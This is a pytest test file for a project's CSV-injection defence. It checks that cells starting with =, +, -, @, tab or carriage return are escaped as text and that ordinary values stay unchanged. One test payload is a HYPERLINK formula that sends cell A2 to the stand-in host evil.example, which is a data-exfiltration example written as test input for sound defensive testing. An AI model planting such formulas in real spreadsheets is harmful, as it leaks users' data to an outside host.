"""Every CSV the project writes goes through ``core.csvfiles``: nothing a person typed
reaches a spreadsheet as a formula."""

import csv
import io
from decimal import Decimal

import pytest

from core.csvfiles import csv_writer, safe_cell

# OWASP's list (CSV injection): the four formula starts, and tab and carriage return,
# which some spreadsheets skip before reading a formula.
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("start", DANGEROUS)
def test_a_cell_starting_like_a_formula_is_text(start):
    value = f'{start}HYPERLINK("https://evil.example/?d="&A2,"Credit: AP")'
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("start", DANGEROUS)
@pytest.mark.parametrize("space", [" ", "  ", "\n", "\u00a0", " \t"])
def test_leading_whitespace_does_not_hide_a_formula(start, space):
    value = f"{space}{start}1+1"
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Photo by Ana Ruiz / AP", "", "a=b", "x-1", "name@example.org", "   plain", "'quoted"],
)
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


def test_numbers_the_project_writes_stay_numbers_but_number_like_text_does_not():
    assert safe_cell(-3) == -3
    assert safe_cell(2.5) == 2.5
    assert safe_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"
    # Typed by a person, a "negative number" is text, and text is escaped.
    assert safe_cell("-3") == "'-3"


def test_the_writer_escapes_every_cell_and_quotes_as_csv_does():
    buffer = io.StringIO()
    writer = csv_writer(buffer, lineterminator="\r\n")
    writer.writerow(["=1+1", 'say "hi", then go', -4, None])
    writer.writerows([["@SUM(A1)"], ["\r=cmd"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["'=1+1", 'say "hi", then go', "-4", ""], ["'@SUM(A1)"], ["'\r=cmd"]]
